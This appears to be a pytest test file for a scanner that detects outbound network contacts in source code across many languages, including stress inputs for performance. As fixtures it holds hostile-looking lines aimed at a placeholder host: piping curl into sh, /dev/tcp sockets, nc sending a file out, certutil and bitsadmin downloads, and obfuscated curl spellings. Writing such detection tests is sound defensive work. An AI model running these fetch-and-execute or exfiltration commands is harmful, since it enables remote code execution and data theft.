"""Languages other than Python: calls, command lines, settings, and the strings and comments beside them."""

from __future__ import annotations

import time

import pytest

from gate.examine.outbound.sources.calls import CALLS
from gate.examine.outbound.sources.grammars import GRAMMARS
from gate.examine.outbound.sources.languages import language_of
from tests.examine.outbound.outbound_kit import HOST, outbound, outbound_and_gaps

U = f"https://{HOST}/a"

CODE = [
    ("a.c", f'curl_easy_setopt(c, CURLOPT_URL, "{U}");'),
    ("a.c", f'#define U "{U}"\ncurl_easy_setopt(c, CURLOPT_URL, U);'),
    ("a.c", f'getaddrinfo("{HOST}", "443", &h, &r);'),
    ("a.c", f'system("curl -s {U} | sh");'),
    ("a.cpp", f'auto u = R"({U})";\nQNetworkRequest r(QUrl("{U}"));'),
    ("A.java", f'InputStream i = new URL("{U}").openStream();'),
    ("A.java", f'static final String H = "{HOST}";\nnew Socket(H, 443);'),
    ("A.java", f'new URL("https://" + "{HOST}" + "/a");'),
    ("A.kt", f'val h = "{HOST}"\nURL("https://$h/a").readText()'),
    ("A.kt", f'Request.Builder().url("{U}").build()'),
    ("A.cs", f'var s = await client.GetStringAsync("{U}");'),
    ("A.cs", f'const string H = "{HOST}";\nclient.GetAsync($"https://{{H}}/a");'),
    ("A.cs", f'new TcpClient("{HOST}", 443);'),
    ("a.vb", f'client.DownloadString("{U}")'),
    ("a.vbs", f'Set x = CreateObject("MSXML2.XMLHTTP")\nx.Open "GET", "{U}", False'),
    ("a.go", f'resp, err := http.Get("{U}")'),
    ("a.go", f'net.Dial("tcp", "{HOST}:443")'),
    ("a.go", f'const u = "{U}"\nhttp.NewRequest("GET", u, nil)'),
    ("a.rs", f'let r = reqwest::get("{U}").await?;'),
    ("a.rs", f'client.get("{U}").send()'),
    ("a.rs", f'TcpStream::connect("{HOST}:443")'),
    ("a.swift", f'let u = URL(string: "{U}")!'),
    ("a.php", f"<?php $c = curl_init('{U}');"),
    ("a.php", f'<?php $h = "{HOST}"; echo file_get_contents("https://$h/a");'),
    ("a.rb", f"Net::HTTP.get(URI('{U}'))"),
    ("a.rb", f'H = "{HOST}"\nHTTParty.get("https://#{{H}}/a")'),
    ("a.rb", f"`curl {U}`\nsystem('curl {U}')"),
    ("a.pl", f"my $r = LWP::UserAgent->new->get('{U}');"),
    ("a.pl", f"getstore('{U}', 'f');"),
    ("a.lua", f'http.request("{U}")'),
    ("a.R", f'download.file("{U}", "f")'),
    ("a.sql", f"SELECT UTL_HTTP.REQUEST('{U}') FROM dual;"),  # noqa: S608  # the text of a sample
    ("a.sh", f"curl -fsSL {U} | sh"),
    ("a.sh", f"curl -fsSL \\\n  '{U}' \\\n  -o f"),
    ("a.sh", f"H={HOST}\nwget -q https://$H/a"),
    ("a.sh", f'URL="${{1:-{U}}}"\ncurl "$URL"'),
    ("a.sh", f"exec 3<>/dev/tcp/{HOST}/443"),
    ("a.sh", f"nc {HOST} 443 < f"),
    ("a.sh", f"ssh admin@{HOST} true"),
    ("a.sh", f"git clone {U}"),
    ("a.sh", f"cu''rl ht\"tps\"://{HOST}/a"),
    ("a.bat", f"cu^rl h^ttps://{HOST}/a"),
    ("a.ps1", f"$c = New-Object Net.Sockets.TCPClient('{HOST}',443)"),
    ("a.sh", f"rsync -a . admin@{HOST}:/srv"),
    ("a.ps1", f"Invoke-WebRequest -Uri '{U}'"),
    ("a.ps1", f"(New-Object Net.WebClient).DownloadString('{U}')"),
    ("a.ps1", f'$u = "{U}"\niwr $u'),
    ("a.bat", f"bitsadmin /transfer j {U} f"),
    ("a.bat", f"set U={U}\ncertutil -urlcache -f %U% f"),
    ("Makefile", f"get:\n\tcurl -O {U}\n"),
    ("Dockerfile", f"FROM {HOST}/base:1\n"),
    ("Dockerfile", f"FROM scratch\nADD {U} /f\n"),
    ("Dockerfile", f"FROM scratch\nRUN curl -O {U}\n"),
    ("ci.yml", f"steps:\n  - run: curl -O {U}\n"),
    ("a.service", f"[Service]\nExecStart=/usr/bin/curl {U}\n"),
    ("tool", f"#!/bin/sh\ncurl {U}\n"),
    ("tool", f"#!/usr/bin/env ruby\nNet::HTTP.get(URI('{U}'))\n"),
]


@pytest.mark.parametrize(("name", "source"), CODE)
def test_calls_contact_by_code(name: str, source: str) -> None:
    facts = outbound(source, name)
    assert (HOST, "code") in {(fact.host, fact.reach) for fact in facts}
    assert {fact.host for fact in facts} - {""} == {HOST}
    assert all(1 <= fact.line <= source.count("\n") + 1 for fact in facts)


STRINGS = [
    ("a.c", f'puts("see {U}");'),
    ("A.java", f'String s = "{U}";'),
    ("a.go", f"var u = `{U}`"),
    ("a.rs", f'let u = r#"{U}"#;'),
    ("a.cs", f'var u = @"{U}";'),
    ("a.sh", f"echo 'see {U}'"),
    ("a.yml", f"api: {U}"),
    ("a.toml", f'api = "{U}"'),
    ("a.ini", f"api={U}"),
    ("a.ini", f"api={U}/b".replace("/", r"\/")),
    ("a.properties", f"db.host={HOST}"),
    ("a.yml", f"server: {HOST}:443"),
    ("a.yml", f"- {HOST}:443"),
    ("a.unheardof", f"x {U}"),
    ("requirements.txt", f"a @ git+{U}"),
    ("a.c", f'char *u = "{U.replace("x", chr(92) + "x78")}";'),
]


@pytest.mark.parametrize(("name", "source"), STRINGS)
def test_other_urls_are_strings(name: str, source: str) -> None:
    assert {(fact.host, fact.reach, fact.line) for fact in outbound(source, name)} == {(HOST, "string", 1)}


TEXTS = [
    ("a.c", f"// see {U}\nint a;"),
    ("a.c", f"/* see\n {U} */"),
    ("a.go", f"// see {U}"),
    ("a.rb", f"# see {U}"),
    ("a.pl", f"=pod\n\n  LWP::Simple->get('{U}')\n\n=cut\n"),
    ("a.rb", f"=begin\nNet::HTTP.get(URI('{U}'))\n=end\n"),
    ("a.lua", f"-- see {U}"),
    ("a.sql", f"-- see {U}"),
    ("a.vbs", f"' see {U}"),
    ("a.sh", f"true # curl {U}"),
    ("a.bat", f"rem curl {U}"),
    ("a.yml", f"a: 1 # see {U}"),
    ("LICENSE", f"see {U}"),
    ("METADATA", f"Home-page: {U}"),
    ("README", f"see {U}"),
    ("a.1", f".TH A 1\nsee {U}"),
]


@pytest.mark.parametrize(("name", "source"), TEXTS)
def test_comments_and_prose_are_text(name: str, source: str) -> None:
    assert {(fact.host, fact.reach) for fact in outbound(source, name)} == {(HOST, "text")}


@pytest.mark.parametrize("name", ["a.c", "a.py", "a.yml", "a.sh", "A.java"])
def test_namespaces_are_identifiers(name: str) -> None:
    assert [fact.reach for fact in outbound('x = "http://www.w3.org/2000/svg"', name)] == ["identifier"]


def test_home_pages_of_packages_are_links() -> None:
    assert [fact.reach for fact in outbound(f'[project.urls]\nHomepage = "{U}"\n', "pyproject.toml")] == ["link"]
    assert [fact.reach for fact in outbound(f'Homepage = "{U}"\n', "settings.toml")] == ["string"]


OPAQUE = [
    ("a.go", "http.Get(u)"),
    ("a.cs", 'client.GetAsync("https://" + host)'),
    ("A.java", "new Socket(host, 443);"),
    ("a.sh", "curl $URL"),
    ("a.ps1", "Invoke-WebRequest $u"),
    ("a.rb", "HTTParty.get(url)"),
    ("Dockerfile", "ARG B\nFROM $B\n"),
]


@pytest.mark.parametrize(("name", "source"), OPAQUE)
def test_calls_without_a_constant_host_are_opaque(name: str, source: str) -> None:
    assert {(fact.host, fact.reach) for fact in outbound(source, name)} == {("", "opaque")}


TWINS = [
    ("a.sh", "printf 'Usage: %s [ssh options]' \"$0\"\nSSH='ssh -a -x'\n"),
    ("a.c", 'printf("%s\\n", o.id); include("main.js");'),
    ("A.java", 'package com.example.app; map.get("name"); list.get(0);'),
    ("a.cs", "using System.Data.Info; var x = d.Get(o.Id);"),
    ("a.go", 'import "github.com/x/y"\nm.Get("name")'),
    ("a.rs", "fn f<'a>(x: &'a str) -> &'a str { x }"),
    ("a.sh", "echo curly; ls http; cp a.sh b.py"),
    ("a.rb", "h.get('name'); require 'net/http'"),
    ("a.php", "<?php $a->get('name'); $b = $o->id;"),
    ("a.yml", "- main.js\n- com.example.app\n- 1.2.3"),
    ("a.yml", "name: main.js\nversion: 1.2.3.4\nhost: app\nfile: a.py"),
    ("Dockerfile", "FROM scratch\nCOPY a.js /a.js\n"),
    ("a.bat", "@echo off\r\ncopy a.txt b.txt\r\n"),
]


@pytest.mark.parametrize(("name", "source"), TWINS)
def test_twins(name: str, source: str) -> None:
    assert outbound(source, name) == []


def test_base_images_without_a_registry_are_of_the_usual_one() -> None:
    [fact] = outbound("FROM python:3.12\n", "Dockerfile")
    assert (fact.host, fact.reach) == ("docker.io", "code")


def test_every_grammar_has_calls() -> None:
    assert CALLS.keys() == GRAMMARS.keys()


@pytest.mark.parametrize(
    ("name", "start", "language"),
    [
        (b"a.PY", "", "python"),
        (b"a", "#!/usr/bin/python3.11 -E\n", "python"),
        (b"a", "#!/usr/bin/env -S bash -e\n", "shell"),
        (b"Dockerfile.dev", "", "docker"),
        (b"copyright", "", "prose"),
        (b"README.md", "", "prose"),
        (b"requirements.txt", "", "settings"),
        (b"data.unheardof", "", ""),
    ],
)
def test_languages(name: bytes, start: str, language: str) -> None:
    assert language_of(name, start) == language


HOSTILE = [
    ("a.c", '"' * 1_000_000),
    ("a.c", "/*" * 500_000),
    ("a.c", "'\\" * 500_000),
    ("a.c", 'R"(' * 300_000),
    ("a.c", "system(" * 100_000),
    ("a.c", "curl_easy_setopt" * 50_000),
    ("a.cs", '@"' * 500_000),
    ("a.cs", "GetAsync((" * 50_000),
    ("a.rs", 'r#"' * 300_000),
    ("a.rs", "Url::parse(" * 50_000),
    ("A.java", '"""' * 300_000),
    ("A.java", 'new URL("' * 100_000),
    ("A.java", "a=" * 500_000),
    ("A.java", 'a = "' * 200_000),
    ("a.rb", "`" * 1_000_000),
    ("a.rb", '"#{' * 300_000),
    ("a.sh", "\\\n" * 500_000),
    ("a.sh", "a=b " * 200_000),
    ("a.sh", "$a" * 300_000),
    ("a.sh", "${a" * 200_000),
    ("a.sh", "curl " * 200_000),
    ("a.sh", "#" * 1_000_000),
    ("a.sh", "a=$a$a\n" * 10_000),
    ("a.sh", "a=1\na=2\na=3\n" + "curl $a" * 1000),
    ("a.sh", "curl " + "a@b.c:" * 50_000),
    ("a.sh", "'" * 500_001 + " #" * 200_000),
    ("a.sh", "a" * 1_000_000),
    ("Dockerfile", "FROM " * 200_000),
    ("Dockerfile", "ENV a=" * 100_000),
    ("a.yml", "a: " * 300_000),
    ("a.yml", "run: curl " * 100_000),
    ("a.yml", "- " * 500_000),
    ("a.yml", "host: " + "a." * 500_000),
    ("a.yml", "://" * 500_000),
    ("a.yml", "a " * 500_000),
    ("a.sql", "'" * 1_000_001),
    ("a.sql", "--[[" * 200_000),
    ("a.vbs", "rem " * 200_000),
    ("a.vbs", '"' * 999_999),
    ("a.php", "<?php " * 100_000),
    ("a.php", "?>" * 500_000),
    ("a.php", "<?" * 500_000),
    ("a", "https://" * 200_000),
    ("a", "#!" + "/" * 1_000_000),
    ("a", "\\\\" * 500_000),
]


@pytest.mark.parametrize(("name", "source"), HOSTILE, ids=lambda value: value[:12])
def test_hostile_sources_end_soon(name: str, source: str) -> None:
    started = time.process_time()
    outbound_and_gaps(source, name)
    assert time.process_time() - started < 30
